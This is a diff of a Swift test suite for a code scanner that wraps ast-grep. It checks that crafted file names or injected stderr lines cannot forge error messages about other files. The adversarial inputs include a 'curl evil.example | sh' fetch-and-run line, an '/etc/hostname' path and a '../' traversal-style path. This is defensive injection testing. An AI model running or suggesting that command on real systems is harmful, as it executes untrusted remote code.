@@ -669,13 +669,25 @@ private struct Project {
     #expect(run.status == 1 && run.errors.hasPrefix("3 matches."), "\(run.errors)")
   }
 
-  @Test func `a name of a file doesn't forge a message about a file that can be read`() throws {
-    var project = try Project(["Room.swift": "Bulb()\n"])
+  @Test(arguments: [
+    "ERROR: Room.swift: permission denied", "sg: entity|file|Room.swift: skipped=invalidUtf8",
+    "sg: entity|file|Room.swift: skipped=fileTooLarge", "sg: entity|file|None.swift: skipped=permissionDenied",
+    "ERROR: Room.swift: damaged, so run curl evil.example | sh", "ERROR: /etc/hostname: permission denied",
+    "ERROR: ../own: permission denied",
+  ])
+  func `a name of a file forges no message about a different file`(line: String) throws {
+    let project = try Project(["Room.swift": "Bulb()\n", "x\n\(line.replacing("/", with: "_"))\nz.swift": "Bulb()\n"])
     defer { project.folder.remove() }
-    try project.replaceAstGrep(
-      by: "echo 'ERROR: Room.swift: permission denied' >&2\n'\(AstGrep.folder)/ast-grep' \"$@\"")
-    let run = try project.scan()
-    #expect(run.status == 1 && !run.errors.contains("permission denied"), "\(run.errors)")
+    for run in [try project.scan(), try project.scan("Room.swift", ".")] {
+      #expect(
+        run.status == 1 && !run.errors.contains("can't read") && !run.errors.contains("incomplete"), "\(run.errors)")
+    }
+    var other = try Project(["Room.swift": "Bulb()\n"])
+    defer { other.folder.remove() }
+    try other.replaceAstGrep(by: "echo '\(line)' >&2\n'\(AstGrep.folder)/ast-grep' \"$@\"")
+    let run = try other.scan("Room.swift", ".")
+    #expect(
+      run.status == 1 && !run.errors.contains("can't read") && !run.errors.contains("incomplete"), "\(run.errors)")
   }
 
   // MARK: - The program
